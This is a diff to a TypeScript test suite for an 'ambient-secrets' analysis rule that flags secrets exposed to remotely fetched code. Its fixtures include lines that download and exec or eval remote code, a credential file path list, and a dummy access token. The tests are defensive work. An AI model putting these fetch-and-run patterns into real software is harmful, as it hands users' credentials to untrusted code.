@@ -9,13 +9,17 @@ const settings = only(['ambient-secrets']);
 const PYTHON = 'import requests\nexec(requests.get("https://example.com/p.py").text)\n';
 const SCRIPT = "eval(await (await fetch('https://example.com/p.js')).text());\n";
 
-/** The texts that are marked. */
-function marked(language: SourceLanguage, code: string): readonly string[] {
+/** The secrets on the path of the one finding. */
+function secrets(language: SourceLanguage, code: string): readonly string[] {
   const lines = code.split('\n');
-  return find(language, code, settings).map(({ severity, range: { start, end } }) => {
+  const found = find(language, code, settings);
+  assert(found.length <= 1);
+  return found.flatMap(({ severity, path }) => {
     assert.equal(severity, 'warning');
-    assert.equal(start.line, end.line);
-    return lines[start.line]!.slice(start.character, end.character);
+    return path.map(({ range: { start, end } }) => {
+      assert.equal(start.line, end.line);
+      return lines[start.line]!.slice(start.character, end.character);
+    });
   });
 }
 
@@ -29,7 +33,7 @@ describe('ambient-secrets', () => {
       ['from os import getenv as get\nkey = get("GITHUB_TOKEN")', 'get("GITHUB_TOKEN")'],
       ['import os, getpass\nos.environ["API_KEY"] = getpass.getpass()', 'os.environ["API_KEY"] = getpass.getpass()'],
     ] as const) {
-      assert.deepEqual(marked('python', `${code}\n${PYTHON}`), [mark], code);
+      assert.deepEqual(secrets('python', `${code}\n${PYTHON}`), [mark], code);
     }
   });
 
@@ -41,16 +45,54 @@ describe('ambient-secrets', () => {
       ['const { env } = process;\nconst key = env.SESSION_SECRET;', 'env.SESSION_SECRET'],
       ["import { env } from 'node:process';\nconst key = env.SESSION_SECRET;", 'env.SESSION_SECRET'],
     ] as const) {
-      assert.deepEqual(marked('typescript', `${code}\n${SCRIPT}`), [mark], code);
+      assert.deepEqual(secrets('typescript', `${code}\n${SCRIPT}`), [mark], code);
     }
   });
 
   it('tells of two secrets at most, and of each once', () => {
     const code = ['A_TOKEN', 'A_TOKEN', 'B_TOKEN', 'C_TOKEN'].map((it) => `print(os.environ["${it}"])\n`).join('');
-    assert.deepEqual(marked('python', `import os\n${code}${PYTHON}`), [
+    assert.deepEqual(secrets('python', `import os\n${code}${PYTHON}`), [
       'os.environ["A_TOKEN"]',
       'os.environ["B_TOKEN"]',
     ]);
+  });
+
+  it('stands where the foreign code runs', () => {
+    const [finding] = find('python', `import os\nkey = os.environ["HF_TOKEN"]\n${PYTHON}`, settings);
+    assert.equal(finding!.range.start.line, 3);
+    assert.match(finding!.message, /holds `HF_TOKEN`,/);
+  });
+
+  it('counts a repository that runs its own code', () => {
+    const load = 'AutoModel.from_pretrained("org/model", trust_remote_code=True';
+    const code = `import os\nfrom transformers import AutoModel\nkey = os.environ["HF_TOKEN"]\n${load}`;
+    assert.deepEqual(secrets('python', `${code})\n`), ['os.environ["HF_TOKEN"]']);
+    assert.deepEqual(secrets('python', `${code}, revision="0123456789abcdef0123456789abcdef01234567")\n`), []);
+  });
+
+  it('knows the files in which programs are handed secrets', () => {
+    for (const file of [
+      '/run/secrets/db_password',
+      '/etc/secrets/key',
+      'github_token.txt',
+      'config/.api-key',
+      'token',
+    ]) {
+      const read = `open("${file}").read()`;
+      assert.deepEqual(secrets('python', `key = ${read}\n${PYTHON}`), [`open("${file}")`], file);
+    }
+    for (const file of ['tokens.json', 'tokenizer.model', 'secretary.txt', 'run/secrets.md'])
+      assert.deepEqual(secrets('python', `key = open("${file}").read()\n${PYTHON}`), [], file);
+  });
+
+  it('tells of a secret in the source where it is in danger', () => {
+    const token = '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';
+    const found = find('python', `login("${token}")\n${PYTHON}`, settings);
+    assert.deepEqual(
+      found.map((it) => it.range.start.line),
+      [2],
+    );
+    assert(!JSON.stringify(found).includes(token));
   });
 
   it('is silent on variables that hold no secret', () => {
@@ -63,9 +105,9 @@ describe('ambient-secrets', () => {
       'KEYBOARD',
       'PUBLIC_KEY',
     ])
-      assert.deepEqual(marked('python', `import os\nprint(os.environ["${name}"])\n${PYTHON}`), [], name);
-    assert.deepEqual(marked('javascript', `const a = config.env.API_KEY;\n${SCRIPT}`), []);
-    assert.deepEqual(marked('python', `key = settings["API_KEY"]\n${PYTHON}`), []);
+      assert.deepEqual(secrets('python', `import os\nprint(os.environ["${name}"])\n${PYTHON}`), [], name);
+    assert.deepEqual(secrets('javascript', `const a = config.env.API_KEY;\n${SCRIPT}`), []);
+    assert.deepEqual(secrets('python', `key = settings["API_KEY"]\n${PYTHON}`), []);
   });
 
   it('is silent where no foreign code certainly runs', () => {
@@ -75,8 +117,8 @@ describe('ambient-secrets', () => {
       'def run(code):\n    exec(code)',
       'import requests\nrequests.get("https://example.com", headers={"Authorization": key})',
     ]) {
-      assert.deepEqual(marked('python', `import os\nkey = os.environ["API_KEY"]\n${code}\n`), [], code);
+      assert.deepEqual(secrets('python', `import os\nkey = os.environ["API_KEY"]\n${code}\n`), [], code);
     }
-    assert.deepEqual(marked('javascript', 'fetch(url, { headers: { token: process.env.API_TOKEN } });\n'), []);
+    assert.deepEqual(secrets('javascript', 'fetch(url, { headers: { token: process.env.API_TOKEN } });\n'), []);
   });
 });
